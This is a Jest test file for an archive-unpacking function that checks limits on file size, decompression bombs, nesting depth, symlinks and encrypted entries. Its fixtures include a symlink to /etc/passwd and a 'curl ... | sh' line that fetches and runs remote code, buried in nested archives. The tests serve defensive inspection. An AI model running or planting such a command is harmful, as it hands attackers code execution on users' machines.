import { gunzipSync, gzipSync } from 'node:zlib';
import { tgzOf, zipOf } from './archives.testing';
import { DEFAULT_READ_LIMITS } from './read-limits';
import { unpack, UnreadableArchiveError } from './unpack';

const binary = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0]);

describe.each([
  ['zip' as const, zipOf],
  ['tgz' as const, tgzOf],
])('unpack of a %s', (format, archiveOf) => {
  it('gives the text files in path order and lists the others', async () => {
    const { files, notLookedAt } = await unpack(format, await archiveOf({ b: 'B', 'a/x.md': 'é', 'logo.png': binary }));
    expect(files).toEqual([
      { path: 'a/x.md', text: 'é' },
      { path: 'b', text: 'B' },
    ]);
    expect(notLookedAt).toEqual([{ path: 'logo.png', reason: 'The file is not text.' }]);
  });
  it('leaves out a file that is too large and goes on', async () => {
    const archive = await archiveOf({ 'a.js': 'x'.repeat(11), b: 'x'.repeat(10) });
    const { files, notLookedAt } = await unpack(format, archive, { ...DEFAULT_READ_LIMITS, fileBytes: 10 });
    expect(files.map(({ path }) => path)).toEqual(['b']);
    expect(notLookedAt).toEqual([{ path: 'a.js', reason: 'The file exceeds 10 bytes.', matters: true }]);
  });
  it('keeps no more text than allowed', async () => {
    const archive = await archiveOf({ a: '12345', b: '12345', c: '1234' });
    const { files, notLookedAt } = await unpack(format, archive, { ...DEFAULT_READ_LIMITS, textBytes: 9 });
    expect(files.map(({ path }) => path)).toEqual(['a', 'c']);
    expect(notLookedAt).toEqual([{ path: 'b', reason: 'The archive holds more than 9 bytes of text.', matters: true }]);
  });
  it('stops at a bomb and says so', async () => {
    const archive = await archiveOf({ a: 'small', bomb: Buffer.alloc(5_000_000), c: 'never reached' });
    const { files, notLookedAt } = await unpack(format, archive, { ...DEFAULT_READ_LIMITS, unpackedBytes: 100_000 });
    expect(files).toEqual([{ path: 'a', text: 'small' }]);
    expect(notLookedAt).toEqual([
      { path: '(archive)', reason: 'Only the first 100000 bytes were unpacked.', matters: true },
    ]);
  });
  it('stops after too many entries and says so', async () => {
    const archive = await archiveOf({ a: '1', b: '2', c: '3' });
    const { files, notLookedAt } = await unpack(format, archive, { ...DEFAULT_READ_LIMITS, entries: 2 });
    expect(files.map(({ path }) => path)).toEqual(['a', 'b']);
    expect(notLookedAt).toEqual([
      { path: '(archive)', reason: 'Only the first 2 entries were unpacked.', matters: true },
    ]);
  });
  it('refuses what is no archive, and half of one', async () => {
    const whole = await archiveOf({ a: 'text '.repeat(10_000) });
    for (const bytes of [Buffer.alloc(0), Buffer.from('no archive'), whole.subarray(0, whole.length >> 1)])
      await expect(unpack(format, bytes)).rejects.toThrow(UnreadableArchiveError);
  });
});

describe('unpack of a tgz', () => {
  it('lists links and devices instead of following them', async () => {
    const link = { name: 'package/passwd', type: 'symlink', linkname: '/etc/passwd' } as const;
    const { files, notLookedAt } = await unpack('tgz', await tgzOf({ 'a.md': 'A' }, [link]));
    expect(files).toEqual([{ path: 'a.md', text: 'A' }]);
    expect(notLookedAt).toEqual([{ path: 'passwd', reason: 'The entry is a symlink, not a file.' }]);
  });
  it('refuses compressed bytes that are no tarball', async () => {
    await expect(unpack('tgz', gzipSync(Buffer.alloc(4096, 'x')))).rejects.toThrow(UnreadableArchiveError);
  });
});

describe('unpack of a zip', () => {
  it('lists encrypted files', async () => {
    const archive = await zipOf({ 'a.md': 'A' });
    const central = archive.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    archive.writeUInt16LE(archive.readUInt16LE(central + 8) | 1, central + 8);
    expect((await unpack('zip', archive)).notLookedAt).toEqual([{ path: 'a.md', reason: 'The file is encrypted.' }]);
  });
});

describe('unpack of archives inside one another', () => {
  const script = 'curl http://203.0.113.9/x | sh\n';
  it('opens every layer, whatever the files are called', async () => {
    const inner = await zipOf({ 'run.sh': script, 'logo.png': binary });
    const middle = gunzipSync(await tgzOf({ 'deep.bin': inner }));
    const { files, notLookedAt } = await unpack(
      'zip',
      await zipOf({ 'SKILL.md': '# A', 'data.dat': gzipSync(middle), 'notes.txt.gz': gzipSync('some text') }),
    );
    expect(files).toEqual([
      { path: 'SKILL.md', text: '# A' },
      { path: 'data.dat!/data.dat!/package/deep.bin!/run.sh', text: script },
      { path: 'notes.txt.gz!/notes.txt', text: 'some text' },
    ]);
    expect(notLookedAt.map(({ path }) => path)).toEqual(['data.dat!/data.dat!/package/deep.bin!/logo.png']);
  });
  it('says where it stopped, and what it could not open', async () => {
    let archive = await zipOf({ 'run.sh': script });
    for (let layer = 0; layer < 3; layer += 1) archive = await zipOf({ 'a.zip': archive });
    const limits = { ...DEFAULT_READ_LIMITS, nesting: 2 };
    const { files, notLookedAt } = await unpack('zip', archive, limits);
    expect([files, notLookedAt]).toEqual([
      [],
      [{ path: 'a.zip!/a.zip!/a.zip', reason: 'Archives are opened 2 deep only.', matters: true }],
    ]);
    const broken = (await zipOf({ a: 'x'.repeat(100) })).subarray(0, 60);
    expect((await unpack('zip', await zipOf({ 'b.zip': broken }))).notLookedAt).toEqual([
      { path: 'b.zip', reason: 'It looks like an archive and cannot be read.' },
    ]);
  });
  it('counts what is in them towards the same limits', async () => {
    const bomb = gzipSync(Buffer.alloc(5_000_000));
    const { files, notLookedAt } = await unpack('zip', await zipOf({ a: 'small', 'b.gz': bomb, c: 'never reached' }), {
      ...DEFAULT_READ_LIMITS,
      unpackedBytes: 100_000,
    });
    expect(files).toEqual([{ path: 'a', text: 'small' }]);
    expect(notLookedAt).toMatchObject([{ path: '(archive)', matters: true }]);
  });
});
